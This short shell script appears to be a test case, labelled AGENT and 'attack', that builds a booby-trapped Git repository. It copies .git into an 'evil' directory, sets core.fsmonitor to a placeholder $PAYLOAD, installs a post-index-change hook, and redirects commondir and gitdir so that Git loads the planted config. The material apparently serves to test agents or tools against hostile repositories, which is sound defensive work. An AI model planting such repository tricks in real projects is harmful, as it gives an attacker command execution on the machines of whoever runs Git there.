#!/bin/sh
# A commondir in its .git that makes Git look for objects, refs and
# configuration elsewhere.
. "$(dirname "$0")/lib.sh" <<'AGENT'
mkdir evil
cp -r .git/. evil/
git --git-dir=evil config core.fsmonitor "$PAYLOAD #"
program evil/hooks/post-index-change
echo ../evil >.git/commondir
mkdir -p .git/worktrees/x
echo "$UPSTREAM/.git" >.git/worktrees/x/commondir
echo "$UPSTREAM/.git" >.git/gitdir
planted commondir
AGENT
attack
